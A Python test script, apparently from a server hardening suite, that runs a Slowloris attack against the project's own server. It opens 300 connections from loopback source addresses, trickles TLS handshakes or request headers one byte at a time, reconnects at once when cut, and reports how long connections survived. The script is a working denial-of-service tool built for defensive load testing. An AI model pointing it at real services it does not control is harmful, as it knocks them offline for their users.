"""Slowloris: 300 connections from 10 client addresses (127.0.0.10-19), none
with a certificate, each sending one byte every 2 s (every read is quick,
nothing ever completes): half send their TLS ClientHello that way, half
finish the handshake and send their request head that way. A connection the
server closes is opened again at once, as an attacker would. Reports how
long the server let each connection live."""
import ssl
import threading
import time

import hostile

PART = "slowloris"
t = hostile.target()
duration = 30.0 * hostile.scale()
deadline = time.monotonic() + duration
context = hostile.tls_context(t)
head = b"GET /healthz HTTP/1.1\r\nHost: prescale\r\nX-Slow: " + b"a" * 4000


def client_hello() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = hostile.tls_context(t).wrap_bio(incoming, outgoing, server_hostname=t.host)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


hello = client_hello()
lock = threading.Lock()
stats = {"opened": 0, "cut": 0, "refused": 0, "held": []}


def attacker(index: int):
    source = f"127.0.0.{10 + index % 10}"
    with_tls = index % 2 == 1
    while time.monotonic() < deadline:
        start = time.monotonic()
        try:
            sock = hostile.tcp(t, t.port, source, timeout=5.0)
            if with_tls:
                sock = context.wrap_socket(sock, server_hostname=t.host)
        except OSError:
            with lock:
                stats["refused"] += 1
            time.sleep(0.2)
            continue
        with lock:
            stats["opened"] += 1
        sent = 0
        closed = False
        payload = head if with_tls else hello
        while time.monotonic() < deadline:
            try:
                if sent < len(payload):
                    sock.send(payload[sent:sent + 1])
                    sent += 1
                sock.settimeout(2.0)
                if sock.recv(1) == b"":
                    closed = True
                    break
            except TimeoutError:
                continue
            except OSError:
                closed = True
                break
        held = time.monotonic() - start
        sock.close()
        if closed:
            with lock:
                stats["cut"] += 1
                stats["held"].append(held)
            time.sleep(0.2)


threads = [threading.Thread(target=attacker, args=(i,), daemon=True) for i in range(300)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join(duration + 15)
held = stats["held"]
hostile.report(PART, f"{stats['opened']} connections opened in {duration:.0f} s, "
               f"{stats['cut']} cut by the server, {stats['refused']} connects failed")
if held:
    hostile.report(PART, f"lifetime of a cut connection: median {hostile.percentile(held, 0.5):.1f} s, "
                   f"max {max(held):.1f} s")
else:
    hostile.report(PART, "no connection was cut by the server: every slot held for the whole attack")
